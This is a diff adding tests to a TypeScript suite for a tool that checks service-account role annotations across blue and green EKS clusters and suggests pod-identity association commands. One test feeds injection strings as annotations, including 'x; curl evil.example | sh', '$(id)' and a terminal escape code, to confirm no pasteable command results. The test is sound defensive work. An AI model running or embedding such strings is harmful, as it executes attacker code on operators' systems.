@@ -41,6 +41,22 @@ test('an account with a role on blue and nothing on green: the association, and 
   ]);
 });
 
+test.each(['x; curl evil.example | sh', '$(id)', `${role}\n`, `${role}';id'`, 'arn:aws:iam::*:role/x', '\u001b[2K'])(
+  'an annotation that names no role makes no command to paste: %j',
+  (text) => {
+    expect(identityGaps([account('shop', 'api', text)], [account('shop', 'api')], sources)).toEqual([]);
+  },
+);
+
+test('an account in a namespace that `identities` cannot name gets the association alone', () => {
+  const todoOf = (namespace: string, name: string) => {
+    const observed = { ...ready, serviceAccounts: { blue: seen([account(namespace, name, role)]), green: seen([]) } };
+    return preflight(staging, 'green', observed).checks.find((check) => check.name === `identities: ${namespace}/${name}`)?.todo;
+  };
+  expect(todoOf('default', 'api')).toMatch(/^`aws eks create-pod-identity-association/);
+  expect(todoOf('external-secrets', 'external-secrets')).toMatch(/^identities: /);
+});
+
 test('no gap: an association, an account without a role, an account of the platform', () => {
   const associated = { ...sources, associations: [{ namespace: 'shop', serviceAccount: 'api' }] };
   const old = [account('shop', 'api', role), account('shop', 'web'), account('kube-system', 'ebs-csi', role)];
